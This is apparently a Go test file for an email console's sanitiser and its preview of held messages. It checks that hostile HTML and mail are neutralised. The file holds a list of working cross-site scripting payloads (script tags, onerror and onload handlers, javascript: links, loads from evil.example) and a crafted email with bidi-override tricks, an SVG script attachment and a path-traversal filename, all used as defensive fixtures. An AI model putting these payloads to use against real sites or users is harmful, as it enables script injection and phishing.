package console

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"gatepost/httpd/httpdtest"
	"gatepost/store"
)

// hostile are pieces of HTML that would run, load or leave something.
var hostile = []string{
	`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`,
	`<img src=x onerror=alert(1)>`, `<body onload=alert(1)>`,
	`<div style="background:url(//evil.example)">`,
	`<style>@import url(//evil.example/a.css);body{background:url(//evil.example)}</style>`,
	`<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="//evil.example"></iframe>`, `<object data="//evil.example"></object>`,
	`<embed src="//evil.example">`, `<link rel=stylesheet href="//evil.example/a.css">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`,
	`<form action="//evil.example"><input name=password><button>Go</button></form>`,
	`<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt&#58;alert(1)">b</a>`,
	`<a href="https://evil.example/login" ping="//evil.example" target=_top>https://bank.example</a>`,
	`<img src="cid:logo@x" alt="our logo">`,
	`<img src="https://evil.example/p.png" srcset="//evil.example/2x">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<video src="//evil.example" autoplay poster="//evil.example"></video>`,
	`<table background="//evil.example"><tr><td style="position:fixed;inset:0">over all</table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<template><script>alert(1)</script></template>`, `<textarea><script>alert(1)</script>`,
	`<plaintext><script>alert(1)</script>`, `<a href="data:text/html,<script>alert(1)</script>">c</a>`,
}

// checkHarmless reads what is shown as a browser would, element by element.
func checkHarmless(t *testing.T, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "svg", "math", "iframe", "object", "embed", "link", "base", "form", "input",
			"button", "video", "audio", "template", "textarea", "frame", "applet":
			t.Errorf("<%s> is left in %q", n.Data, page)
		case "style", "meta":
			if n.Parent.Data != "head" {
				t.Errorf("<%s> is left in %q", n.Data, page)
			}
		}
		for _, a := range n.Attr {
			loads := a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/")
			if loads || strings.HasPrefix(a.Key, "on") || strings.Contains(a.Val, "evil.example") ||
				a.Key == "href" || a.Key == "srcset" || strings.Contains(a.Val, "url(") ||
				strings.Contains(a.Val, "svg") || strings.Contains(a.Val, "position") {
				t.Errorf("%s=%q is left in %q", a.Key, a.Val, page)
			}
		}
	}
}

func TestSanitise(t *testing.T) {
	for _, piece := range hostile {
		checkHarmless(t, sanitised(t, []string{piece}, false))
	}
	checkHarmless(t, sanitised(t, hostile, true))
	page := sanitised(t, []string{`<h1 style="color:#123456">Hi</h1><p align="center">one <b>two</b></p>` +
		`<a href="https://evil.example/login">https://bank.example</a>` +
		`<img src="cid:x" alt="our logo"><img src="data:image/png;base64,iVBORw0KGgo=">`}, true)
	for _, want := range []string{`<h1 style="color: #123456">Hi</h1>`,
		`<p align="center">one <b>two</b></p>`,
		`[evil.example]`, `[our logo]`, `src="data:image/png;base64,iVBORw0KGgo="`, "The page goes on"} {
		if !strings.Contains(page, want) {
			t.Errorf("%q is not in %q", want, page)
		}
	}
}

func FuzzSanitise(f *testing.F) {
	for _, piece := range hostile {
		f.Add(piece)
	}
	f.Fuzz(func(t *testing.T, page string) {
		if !strings.Contains(page, "evil.example") { // which may stand in a text
			checkHarmless(t, sanitised(t, []string{page}, false))
		}
	})
}

// hostileMail is everything at once.
func hostileMail() string {
	return "From: =?utf-8?q?boss=40acme=2Etest_=E2=80=AEtxt?= <eve@example.net>\r\n" +
		"To: support@acme.test\r\n" +
		"Subject: =?utf-8?q?=3Cscript=3Ealert=281=29=3C/script=3E_=E2=80=AEfdp=2Eexe?=\r\n" +
		"Message-ID: <\"><img src=x onerror=alert(1)>@x>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=m\r\n\r\n" +
		"--m\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n" +
		"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
		"Hello <script>alert(2)</script>\u202e\u200b\u200b\x1b[2J\r\n" +
		"--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		strings.Join(hostile, "\r\n") + "\r\n--a--\r\n" +
		"--m\r\nContent-Type: image/svg+xml; name=\"../../x\u202egvs.html\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n" +
		"Content-Disposition: attachment; filename=\"../../etc/<b>evil</b>.svg\"\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte("<svg onload=alert(3)>")) + "\r\n--m--\r\n"
}

func TestHostileMailIsShownAsItIs(t *testing.T) {
	st := testServer(t)
	st.Stranger("first")
	id := st.Receive(hostileMail())
	b := st.Browser("admin@acme.test")
	path := fmt.Sprintf("/suspended/%d", id)
	page := b.Get(path, http.StatusOK)
	checkPage(t, path, page)
	b.Silent(page, "<script>alert", "onerror=alert(1)>", "\u202e", "\u200b", "\x1b", "<b>evil", "../")
	b.Says(page, "&lt;script&gt;alert(1)&lt;/script&gt;", "[U+202E]", "[U+200B ×2]", "[U+001B]",
		"the name shows another address: boss@acme.test", `sandbox=""`)
	b.Silent(b.Get("/suspended", http.StatusOK), "<script>alert", "\u202e")

	w := b.Do(call{Method: "GET", Path: path + "/html", Session: b.Session})
	checkHarmless(t, b.Check(w, "frame", http.StatusOK))
	checkHeaders(t, w, "Content-Security-Policy", framePolicy, "X-Content-Type-Options", "nosniff",
		"X-Frame-Options", "SAMEORIGIN", "Content-Type", "text/html; charset=utf-8")

	w = b.Do(call{Method: "GET", Path: path + "/attachments/0", Session: b.Session})
	if got := b.Check(w, "attachment", http.StatusOK); got != "<svg onload=alert(3)>" {
		t.Errorf("the attachment is %q", got)
	}
	checkHeaders(t, w, "Content-Type", "application/octet-stream", "X-Content-Type-Options", "nosniff",
		"Content-Disposition", "attachment; filename=b_.svg")
	b.Get(path+"/attachments/1", http.StatusNotFound)
	b.Get(path+"/attachments/x", http.StatusNotFound)

	w = b.Do(call{Method: "GET", Path: path + "/raw", Session: b.Session})
	if b.Check(w, "raw", http.StatusOK) != hostileMail() {
		t.Error("the raw message is another")
	}
	checkHeaders(t, w, "Content-Type", "application/octet-stream", "Content-Disposition",
		fmt.Sprintf("attachment; filename=message-%d.eml", id))
}

func checkHeaders(t *testing.T, w *httptest.ResponseRecorder, pairs ...string) {
	t.Helper()
	for i := 0; i < len(pairs); i += 2 {
		if got := w.Header().Get(pairs[i]); got != pairs[i+1] {
			t.Errorf("%s: %s, want %s", pairs[i], got, pairs[i+1])
		}
	}
}

// The preview of a held message is no way to one that was let in, nor the other way round.
func TestPreviewKeepsQueueAndTicketsApart(t *testing.T) {
	st := testServer(t)
	held := st.Stranger("held")
	ticket := st.Receive(httpdtest.Message("Ann <ann@example.com>", "a ticket", "Hello"))
	b := st.Browser("agent@acme.test")
	b.Get(fmt.Sprintf("/tickets/%d/raw", held), http.StatusNotFound)
	b.Get(fmt.Sprintf("/suspended/%d/raw", ticket), http.StatusNotFound)
	b.Get(fmt.Sprintf("/tickets/%d/raw", ticket), http.StatusOK)
	b.Get(fmt.Sprintf("/tickets/%d/html", ticket), http.StatusNotFound) // it has none
}

// A large page is shown in part.
func TestLargeHTML(t *testing.T) {
	st := testServer(t)
	st.Stranger("first")
	b := st.Browser("agent@acme.test")
	id := st.Receive("From: Sam <sam@example.net>\r\nContent-Type: text/html\r\n\r\n" +
		strings.Repeat(strings.Repeat("lamp ", 1000)+"<br>\r\n", 1<<10))
	path := fmt.Sprintf("/suspended/%d", id)
	if n := len(b.Get(path, http.StatusOK)); n > 2*maxTextShown {
		t.Errorf("the page has %d octets", n)
	}
	page := b.Get(path+"/html", http.StatusOK)
	if b.Says(page, "The page goes on"); len(page) > maxPageShown+10<<10 {
		t.Errorf("the frame has %d octets", len(page))
	}
}

// What is built to be long to read, or to grow, does neither.
func TestSanitiseTakesItsTime(t *testing.T) {
	const most = 8 << 10
	for _, piece := range append([]string{"<div>", "<", "<!--", "&amp",
		`<b style="color:red;font-size:9px">`, `<a href="https://evil.example/">x</a>`, "<img>",
		"<a>", "\x00", "<p", "</p>"}, hostile...) {
		page := strings.Repeat(piece, most/len(piece))
		if n := len(sanitised(t, []string{page}, false)); n > 8*most {
			t.Errorf("%q grows to %d octets", piece, n)
		}
	}
}

func TestShow(t *testing.T) {
	for text, want := range map[string]string{
		"plain <b> & text":          "plain &lt;b&gt; &amp; text",
		"\u202efdp.exe":             `<span class="unseen">[U+202E]</span>fdp.exe`,
		"a\u200b\u200b\u200bb":      `a<span class="unseen">[U+200B ×3]</span>b`,
		"\x00\n":                    unseenMark("U+0000") + unseenMark("U+000A"),
		"10\u00a0000\u2009km":       "10\u00a0000\u2009km",
		"❤\ufe0f 👩\u200d🚒 1\ufe0f⃣": "❤\ufe0f 👩\u200d🚒 1\ufe0f⃣",
		"a\u200db":                  `a<span class="unseen">[U+200D]</span>b`,
		"":                          "",
	} {
		if got := string(show(text)); got != want {
			t.Errorf("show(%q) is %q, want %q", text, got, want)
		}
	}
	if got := string(showLines("a\r\n\tb\rc")); got != "a\n\tb"+unseenMark("U+000D")+"c" {
		t.Errorf("showLines gives %q", got)
	}
}

func unseenMark(char string) string { return `<span class="unseen">[` + char + `]</span>` }

func TestAnotherAddress(t *testing.T) {
	for name, want := range map[string]string{
		"Ann Example": "", "ann@example.com": "", "Ann (ann@example.com)": "", "Ann @ work": "",
		"boss@acme.test": "boss@acme.test", "The Boss <Boss@ACME.test>.": "boss@acme.test",
		"ann@example.com, boss@acme.test": "boss@acme.test", "a@b c@d.test": "a@b",
	} {
		if got := anotherAddress(store.Person{Name: name, Email: "ann@example.com"}); got != want {
			t.Errorf("%q shows %q, want %q", name, got, want)
		}
	}
}

// What cannot be written whole is not taken for the end of an attachment.
func TestAttachmentBrokenOff(t *testing.T) {
	st := testServer(t)
	st.Stranger("first")
	l, err := st.Server.Open(t.Context(), st.Receive(hostileMail()))
	st.Must(err)
	defer l.Close()
	if err := l.Message.Extract(l.Body(), 0, brokenPipe{}); err != io.ErrClosedPipe {
		t.Errorf("error %v, want that of the writer", err)
	}
	var b bytes.Buffer
	st.Must(l.Message.Extract(l.Body(), 0, &b))
}

// A brokenPipe takes nothing.
type brokenPipe struct{}

func (brokenPipe) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }
